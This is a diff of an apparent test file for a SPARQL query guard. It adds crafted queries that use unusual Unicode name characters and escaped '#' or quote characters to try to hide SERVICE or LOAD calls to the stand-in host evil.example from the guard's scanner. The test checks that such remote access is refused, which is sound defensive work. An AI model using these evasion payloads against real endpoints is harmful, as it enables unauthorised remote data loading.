@@ -22,6 +22,12 @@ ALLOWED = "http://allowed.example/sparql"
         "LOAD <http://evil.example/data.ttl>",
         "LOAD SILENT <http://evil.example/data.ttl> INTO GRAPH <http://g>",
         "SELECT * { SERVICE",
+        # a name character the scanner might not know must not let "\#" start a comment, nor "\'" a string
+        "PREFIX ex: <http://e/> SELECT * WHERE { BIND(ex:a\u00b7\\# AS ?z) SERVICE <http://evil.example/> { ?x ?y ?z }\n}",
+        "PREFIX ex: <http://e/> SELECT * WHERE { BIND(ex:a\u0301\\' AS ?z) SERVICE <http://evil.example/> { } BIND('x' AS ?w) }",
+        "PREFIX ex: <http://e/> SELECT * WHERE { BIND(ex:a\u203f\\# AS ?z) SERVICE <http://evil.example/> { }\n}",
+        "PREFIX ex: <http://e/> SELECT * WHERE { BIND(ex:a\u20ac\\# AS ?z) SERVICE <http://evil.example/> { }\n}",
+        "PREFIX ex: <http://e/> INSERT DATA { ex:c\u00b7\\# <http://p> 1 }\n; LOAD <http://evil.example/>",
     ],
 )
 def test_remote_access_is_refused(text):
